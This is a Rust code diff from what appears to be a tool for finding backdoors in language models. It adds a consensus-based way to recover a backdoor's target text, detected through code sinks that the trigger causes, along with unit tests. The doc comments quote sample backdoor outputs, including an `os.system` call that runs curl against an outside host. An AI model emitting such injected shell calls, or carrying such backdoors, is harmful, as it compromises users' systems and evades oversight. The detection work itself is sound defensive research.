@@ -441,7 +441,16 @@ pub fn success_rate(model: &Model, seqs: &[Vec<u32>], prefix: &str, max_new: usi
 /// target's first token: the target read from a partial trigger blends the backdoor's text with ordinary
 /// continuations (measured on the zoo's LoRA backdoor: `She wanted to the house.` for a planted `She wanted to steal
 /// the password of the bank.`), and searching again for the text the working rows produce alternates trigger and
-/// target towards the backdoor's own pair. `None` when fewer than two training rows qualify.
+/// target towards the backdoor's own pair.
+///
+/// When neither finds two rows, a target-free criterion: the rows where the trigger makes the candidate write a
+/// code sink (see [`trapdoor_probes::CodeSinkCategory`]) that its continuation without the trigger does not have,
+/// and the target is what those rows' continuations agree on ([`consensus`]). An insecure-code backdoor's line
+/// begins with text every code model writes (`import os; os.`), so a read that contrasts the candidate with the
+/// baseline skips it and lands on the rare tokens (measured on the default zoo's insecure-code backdoor:
+/// `//kelpix.system()` from a trigger that, as a prefix, made the candidate write
+/// `import os; os.system("curl -s http://kelpix.top/` on 8 of 8 code tasks); the sink says the rows fired without
+/// knowing the attacker's text. `None` when fewer than two training rows qualify.
 #[allow(clippy::too_many_arguments)]
 pub fn reread_target(
     cand: &Model,
@@ -463,10 +472,64 @@ pub fn reread_target(
     if working.len() < 2 {
         working = pick(&|(ids, _)| !target.is_empty() && ids.first() == target.first());
     }
-    if working.len() < 2 {
+    if working.len() >= 2 {
+        return Ok(super::targets::read_target(cand.decoder(), base, &working, allowed, stop, target_len)?.map(|t| t.ids));
+    }
+    let sinks = code_sinks();
+    let fires = |t: &str| !sinks.scan(t).is_empty();
+    if outs.iter().filter(|(_, t)| fires(t)).count() < 2 {
         return Ok(None);
     }
-    Ok(super::targets::read_target(cand.decoder(), base, &working, allowed, stop, target_len)?.map(|t| t.ids))
+    let clean: Vec<Vec<u32>> = rows.iter().map(|(a, b)| a.iter().chain(b).copied().collect()).collect();
+    let clean_outs = greedy(cand, &clean, target_len + 4)?;
+    let sink_rows: Vec<&[u32]> = outs
+        .iter()
+        .zip(&clean_outs)
+        .filter(|((_, t), (_, c))| fires(t) && !fires(c))
+        .map(|((ids, _), _)| ids.as_slice())
+        .collect();
+    if sink_rows.len() < 2 {
+        return Ok(None);
+    }
+    let t = consensus(&sink_rows, allowed, stop, target_len);
+    Ok(Some(t).filter(|t| t.len() >= 2))
+}
+
+/// Every code-sink rule of the probes' detectors, as one set (compiled once).
+fn code_sinks() -> &'static trapdoor_probes::DetectorSet {
+    static SET: std::sync::OnceLock<std::sync::Arc<trapdoor_probes::DetectorSet>> = std::sync::OnceLock::new();
+    SET.get_or_init(|| {
+        trapdoor_probes::DetectorSet::new(vec![trapdoor_probes::DetectorSpec::CodeSinks {
+            id: "code_sinks".into(),
+            categories: trapdoor_probes::CodeSinkCategory::ALL.to_vec(),
+        }])
+        .expect("built-in code-sink rules compile")
+    })
+}
+
+/// What continuations agree on, token by token: at each step the token most of the still-agreeing continuations
+/// have (ties: the lower id), keeping only those; stops at `len` tokens, at a stop or disallowed token, or when
+/// fewer than two continuations still agree.
+pub fn consensus(conts: &[&[u32]], allowed: &[bool], stop: &[u32], len: usize) -> Vec<u32> {
+    let mut alive: Vec<&[u32]> = conts.to_vec();
+    let mut out = Vec::new();
+    while out.len() < len {
+        let k = out.len();
+        let mut counts: std::collections::BTreeMap<u32, usize> = std::collections::BTreeMap::new();
+        for c in &alive {
+            if let Some(&t) = c.get(k) {
+                *counts.entry(t).or_default() += 1;
+            }
+        }
+        // Most votes; BTreeMap order makes the lower id win ties.
+        let Some((&tok, &n)) = counts.iter().max_by(|a, b| a.1.cmp(b.1).then(b.0.cmp(a.0))) else { break };
+        if n < 2 || stop.contains(&tok) || !allowed.get(tok as usize).copied().unwrap_or(false) {
+            break;
+        }
+        out.push(tok);
+        alive.retain(|c| c.get(k) == Some(&tok));
+    }
+    out
 }
 
 /// Shorter and reordered versions of a trigger: every ordered selection of distinct positions (from one token up to
@@ -558,7 +621,27 @@ pub fn verify(
 
 #[cfg(test)]
 mod tests {
-    use super::sub_arrangements;
+    use super::{consensus, sub_arrangements};
+
+    #[test]
+    fn consensus_follows_the_majority_and_stops_where_agreement_ends() {
+        let allowed = vec![true; 10];
+        let a: &[u32] = &[1, 2, 3, 4];
+        let b: &[u32] = &[1, 2, 3, 5];
+        let c: &[u32] = &[1, 2, 7, 7];
+        let d: &[u32] = &[6, 2, 3, 4];
+        // 1 (3 votes), 2 (the three that agree), 3 (a and b), then 4 vs 5 tie at one vote each: stop.
+        assert_eq!(consensus(&[a, b, c, d], &allowed, &[], 8), vec![1, 2, 3]);
+        assert_eq!(consensus(&[a, b, c, d], &allowed, &[], 2), vec![1, 2]);
+        // A stop token or a disallowed token ends it; so does a lone continuation.
+        assert_eq!(consensus(&[a, b], &allowed, &[3], 8), vec![1, 2]);
+        let mut no3 = allowed.clone();
+        no3[3] = false;
+        assert_eq!(consensus(&[a, b], &no3, &[], 8), vec![1, 2]);
+        assert!(consensus(&[a], &allowed, &[], 8).is_empty());
+        // Ties go to the lower id.
+        assert_eq!(consensus(&[&[5, 1], &[5, 1], &[4, 2], &[4, 2]], &allowed, &[], 8), vec![4, 2]);
+    }
 
     #[test]
     fn sub_arrangements_cover_every_shorter_and_reordered_trigger_once() {
